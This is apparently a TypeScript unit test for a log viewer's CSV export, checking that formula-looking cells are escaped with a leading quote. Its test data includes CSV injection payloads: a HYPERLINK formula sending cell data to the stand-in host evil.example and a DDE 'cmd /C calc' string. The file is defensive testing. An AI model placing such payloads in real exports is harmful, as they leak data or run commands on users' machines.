// Issue 21, finding 6: Logs → Export CSV (renderer/src/lib/csv.ts) writes every cell as data.
// A model or key alias named like a formula (`=HYPERLINK(…)`, `@SUM(…)`, `+`, `-`, a tab or a
// carriage return first) would run when the file is opened in a spreadsheet; read back as a
// spreadsheet reads CSV, no cell starts a formula, and every cell says what was logged.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../renderer/src/lib/csv.js';

/** RFC 4180, as spreadsheets read it: quoted cells with doubled quotes, CRLF between rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted) {
      if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') {
      quoted = true;
    } else if (char === ',' || (char === '\r' && text[i + 1] === '\n')) {
      row.push(cell);
      cell = '';
      if (char === '\r') {
        rows.push(row);
        row = [];
        i++;
      }
    } else cell += char;
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV export', () => {
  it('writes formula-looking text as text, quoted, and keeps numbers as numbers', () => {
    const names = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3', '\t=1', '\r=1', 'gpt-4o'];
    const csv = toCsv(
      ['model', 'cost'],
      names.map((name) => [name, -0.5]),
    );
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(['model', 'cost']);
    expect(rows.slice(1).map((row) => row[0])).toEqual([...names.slice(0, 6).map((name) => `'${name}`), 'gpt-4o']);
    expect(rows.slice(1).every((row) => row[1] === '-0.5')).toBe(true);
    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",-0.5`);
  });

  it('never lets a cell start a formula, and always reads back what was written (fast-check, fixed seed)', () => {
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', '\n').chain((start) => fc.string().map((rest) => start + rest)),
    );
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(text, fc.constant(null), fc.double({ noNaN: true })), { minLength: 3, maxLength: 3 }), { maxLength: 5 }), (rows) => {
        const read = parseCsv(toCsv(['a', 'b', 'c'], rows)).slice(1);
        expect(read).toHaveLength(rows.length);
        rows.forEach((row, r) =>
          row.forEach((value, c) => {
            const cell = read[r]![c]!;
            if (typeof value === 'string') {
              expect(FORMULA.test(cell)).toBe(false);
              expect(cell).toBe(FORMULA.test(value) ? `'${value}` : value);
            } else expect(cell).toBe(value === null ? '' : String(value));
          }),
        );
      }),
      { seed: 21, numRuns: 300 },
    );
  });
});
